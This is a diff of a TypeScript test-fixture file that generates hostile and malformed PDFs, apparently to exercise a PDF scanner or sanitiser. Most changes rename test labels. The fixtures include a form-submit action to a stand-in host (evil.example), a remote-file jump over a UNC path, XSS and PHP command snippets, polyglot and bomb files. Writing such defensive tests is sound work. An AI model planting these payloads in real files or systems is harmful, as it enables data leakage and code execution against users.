@@ -35,9 +35,9 @@ function active(): HostilePdf[] {
     'a list of attachments': '<< /EmbeddedFiles << /Names [(a) 7 0 R] >> >>',
     'a portfolio': '<< /Collection << /View /D >> >>',
     'rich media': '<< /Subtype /RichMedia /RichMediaContent 7 0 R >>',
-    'a form of its own language': '<< /AcroForm << /XFA [(template) 7 0 R] >> >>',
-    'a form that sends': '<< /S /SubmitForm /F (https://evil.example/) >>',
-    'a form that takes in': '<< /S /ImportData /F (x.fdf) >>',
+    'an XFA form, which has a language of its own': '<< /AcroForm << /XFA [(template) 7 0 R] >> >>',
+    'a form that sends its data': '<< /S /SubmitForm /F (https://evil.example/) >>',
+    'a form that imports data': '<< /S /ImportData /F (x.fdf) >>',
     'a jump into an attachment': '<< /S /GoToE /T << /R /C >> >>',
     'a jump into another file': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>',
     'a film': '<< /Subtype /Movie /Movie << /F (x.avi) >> >>',
@@ -77,11 +77,11 @@ function packed(): HostilePdf[] {
       differences(INNER),
     ],
     [
-      'an object stream whose predictor stands in another object',
+      'an object stream whose predictor is in another object',
       `/N 2 /F#69rst 9 ${FLATE} /DecodeParms 9 0 R`,
       differences(INNER),
     ],
-    ['an object stream that says nothing of itself', FLATE, PACKED],
+    ['an object stream without a type', FLATE, PACKED],
     ['an object stream as a picture', `/Subtype /Image /N 2 /First 9 ${FLATE}`, PACKED],
     [
       'an object stream in ASCII85',
@@ -109,14 +109,17 @@ function bomb(): Buffer {
 function hidden(): HostilePdf[] {
   return [
     {
-      what: 'objects behind a word in a comment',
+      what: 'objects after the word stream in a comment',
       body: plainPdf({ extra: `% stream\n${SCRIPT}\n% endstream` }),
     },
     {
       what: 'objects in a stream that ends early',
       body: withStream('', Buffer.from(`endstream ${SCRIPT}`)),
     },
-    { what: 'ten thousand beginnings', body: plainPdf({ extra: 'stream\n'.repeat(30_000) }) },
+    {
+      what: 'thirty thousand beginnings of streams',
+      body: plainPdf({ extra: 'stream\n'.repeat(30_000) }),
+    },
   ]
 }
 
@@ -145,12 +148,12 @@ function ascii85(bytes: Buffer): Buffer {
     const group = Buffer.alloc(4)
     const length = bytes.copy(group, 0, at, at + 4)
     let value = group.readUInt32BE(0)
-    const signs: string[] = []
-    for (let sign = 0; sign < 5; sign += 1) {
-      signs.unshift(String.fromCharCode(33 + (value % 85)))
+    const digits: string[] = []
+    for (let place = 0; place < 5; place += 1) {
+      digits.unshift(String.fromCharCode(33 + (value % 85)))
       value = Math.floor(value / 85)
     }
-    text += signs.slice(0, length + 1).join('')
+    text += digits.slice(0, length + 1).join('')
   }
   return Buffer.from(`${text}~>`)
 }
@@ -163,7 +166,7 @@ function mixed(): HostilePdf[] {
   program.write('MZ', 0)
   program.writeUInt32LE(128, 60)
   program.write('PE\0\0', 128)
-  const within: Record<string, Buffer> = {
+  const embedded: Record<string, Buffer> = {
     'a zip in a stream': Buffer.from(zip, 'latin1'),
     'the end of a zip': Buffer.from(end, 'latin1'),
     'a rar': Buffer.from('Rar!\u001a\u0007\u0000', 'latin1'),
@@ -171,14 +174,14 @@ function mixed(): HostilePdf[] {
     'an old office file': Buffer.from('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', 'latin1'),
     'a Linux program': Buffer.from('\u007fELF\u0002\u0001\u0001\u0000', 'latin1'),
     'a Windows program': program,
-    'a page': Buffer.from('<HTML><body onload=alert(1)>'),
-    'a script of pages': Buffer.from('<script>alert(1)</script>'),
+    'an HTML page': Buffer.from('<HTML><body onload=alert(1)>'),
+    'an HTML script': Buffer.from('<script>alert(1)</script>'),
     PHP: Buffer.from('<?php system("id"); ?>'),
-    'a drawing': Buffer.from('<svg width="1" xmlns="http://www.w3.org/2000/svg" onload="x">'),
-    'a frame': Buffer.from('<iframe src=x>'),
+    'an SVG': Buffer.from('<svg width="1" xmlns="http://www.w3.org/2000/svg" onload="x">'),
+    'an HTML frame': Buffer.from('<iframe src=x>'),
   }
-  const made = Object.entries(within).map(([what, body]) => ({
-    what: `${what} within`,
+  const made = Object.entries(embedded).map(([what, body]) => ({
+    what: `${what} within the PDF`,
     body: plainPdfWith(
       Buffer.concat([
         Buffer.from(`<< /Length ${body.length} >>\nstream\n`),
@@ -190,17 +193,20 @@ function mixed(): HostilePdf[] {
   const plain = plainPdf()
   return [
     ...made,
-    { what: 'a zip behind', body: Buffer.concat([plain, Buffer.from(zip + end, 'latin1')]) },
+    { what: 'a zip after the PDF', body: Buffer.concat([plain, Buffer.from(zip + end, 'latin1')]) },
     {
-      what: 'a page before',
+      what: 'an HTML page before the PDF',
       body: Buffer.concat([Buffer.from('<html><script>x</script>\n'), plain]),
     },
     {
-      what: 'a page behind',
+      what: 'an HTML page after the PDF',
       body: Buffer.concat([plain, Buffer.from('<html><script>x</script>')]),
     },
-    { what: 'a program before', body: Buffer.concat([program, plain]) },
-    { what: 'a script in its first line', body: headed('%PDF-1.7 <script>alert(1)</script>\n') },
+    { what: 'a program before the PDF', body: Buffer.concat([program, plain]) },
+    {
+      what: 'a script in its first line',
+      body: withFirstLine('%PDF-1.7 <script>alert(1)</script>\n'),
+    },
   ]
 }
 
@@ -209,17 +215,18 @@ function broken(): HostilePdf[] {
   return [
     { what: 'cut in half', body: plain.subarray(0, plain.length >> 1) },
     { what: 'without its end', body: plain.subarray(0, plain.length - 8) },
-    { what: 'its head alone', body: Buffer.from('%PDF-1.7\n') },
-    { what: 'its head and its end alone', body: Buffer.from('%PDF-1.7\n%%EOF\n') },
-    { what: 'a byte before', body: Buffer.concat([Buffer.from('\n'), plain]) },
-    { what: 'bytes behind', body: Buffer.concat([plain, Buffer.alloc(2000, 0x61)]) },
-    { what: 'a version of no time', body: headed('%PDF-9.9\n') },
+    { what: 'its first line alone', body: Buffer.from('%PDF-1.7\n') },
+    { what: 'its first and last line alone', body: Buffer.from('%PDF-1.7\n%%EOF\n') },
+    { what: 'a byte before the PDF', body: Buffer.concat([Buffer.from('\n'), plain]) },
+    { what: 'bytes after the PDF', body: Buffer.concat([plain, Buffer.alloc(2000, 0x61)]) },
+    { what: 'a version that does not exist', body: withFirstLine('%PDF-9.9\n') },
   ]
 }
 
-function headed(head: string): Buffer {
+/** A plain PDF with another first line. */
+function withFirstLine(line: string): Buffer {
   const plain = plainPdf()
-  return Buffer.concat([Buffer.from(head), plain.subarray(9)])
+  return Buffer.concat([Buffer.from(line), plain.subarray(9)])
 }
 
 function plainPdfWith(object: Buffer): Buffer {
